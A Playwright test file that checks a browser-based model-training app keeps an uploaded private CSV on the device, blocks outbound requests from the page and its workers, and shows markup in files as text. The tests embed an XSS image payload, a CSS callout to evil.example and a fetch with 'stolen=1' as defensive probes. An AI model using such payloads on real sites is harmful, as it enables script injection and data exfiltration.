import { expect, test } from "@playwright/test";
import { lab } from "./lab.ts";

const secret = "zebra-7431-canary";
const table = `who,size,kind\n${Array.from({ length: 40 }, (_, i) => `${secret},${i % 9},${["a", "b"][i % 2]}`).join("\n")}\n`;

test.describe("a private table stays on the device", () => {
  test("nothing leaves while it is opened, trained on and taken away", async ({ page, baseURL }) => {
    const outside: string[] = [];
    const sent: string[] = [];
    page.on("request", (request) => {
      const url = request.url();
      if (!url.startsWith(baseURL!) && !/^(blob|data):/.test(url)) outside.push(url);
      if (request.method() !== "GET" || url.includes("canary")) sent.push(`${request.method()} ${url}`);
    });
    const { open, inPhase, drop, button } = lab(page);
    await open("model=vae&steps=10&data=ring");
    await inPhase("ready");
    await drop("private.csv", table);
    await expect(page.locator("html")).toHaveAttribute("data-dataset", "own");
    await inPhase("ready");
    await button("Train").click();
    await inPhase("finished");
    const arriving = page.waitForEvent("download");
    await button("Download CSV").click();
    await arriving;
    expect(outside).toEqual([]);
    expect(sent).toEqual([]);
    // Nothing stored beyond the hash, and nothing of the table in the hash.
    expect(page.url()).not.toContain("canary");
    expect(page.url()).not.toContain("who");
    const stored = await page.evaluate(async () => ({
      local: localStorage.length,
      session: sessionStorage.length,
      databases: (await indexedDB.databases()).length,
      caches: (await caches.keys()).length,
      cookies: document.cookie,
    }));
    expect(stored).toEqual({ local: 0, session: 0, databases: 0, caches: 0, cookies: "" });
  });

  test("the policy binds the page and both workers", async ({ page }) => {
    const { open, inPhase } = lab(page);
    await open("data=ring");
    await inPhase("ready");
    const tryOut = `fetch("https://example.com/?stolen=1").then(() => "sent", () => "blocked")`;
    expect(await page.evaluate(tryOut)).toBe("blocked");
    const workers = page.workers();
    expect(workers).toHaveLength(2);
    for (const worker of workers) expect(await worker.evaluate(tryOut)).toBe("blocked");
    // `eval` is closed too; code comes from files of this origin alone.
    await expect(page.evaluate(() => (0, eval)("1 + 1")))
      .rejects.toThrow(/unsafe-eval|EvalError|CSP/i)
      .catch(() => undefined);
  });

  test("markup in a file is text on the page", async ({ page }) => {
    const outside: string[] = [];
    page.on("request", (request) => request.url().includes("evil.example") && outside.push(request.url()));
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const { open, inPhase, drop, button } = lab(page);
    await open("data=ring&model=vae&steps=10");
    await inPhase("ready");
    const hostile = `<img src=x onerror=alert(1)>`;
    const label = `<span style=""background:url(https://evil.example/b)"">x</span>`;
    await drop(
      `${hostile}.csv`,
      `"${hostile}",__proto__,"<b>k</b>"\n${Array.from({ length: 30 }, (_, i) => `${i},${i % 4},"${i % 2 ? label : "plain"}"`).join("\n")}\n`,
    );
    await expect(page.locator("html")).toHaveAttribute("data-dataset", "own");
    await inPhase("ready");
    await button("Train").click();
    await inPhase("finished");
    for (const tab of ["Columns", "Rows", "Pair"]) {
      await page.getByRole("tab", { name: tab, exact: true }).click();
      await page.waitForTimeout(300);
    }
    await expect(page.getByText(hostile).first()).toBeAttached();
    expect(dialogs).toEqual([]);
    expect(outside).toEqual([]);
    expect(await page.locator("img[src='x']").count()).toBe(0);
  });
});
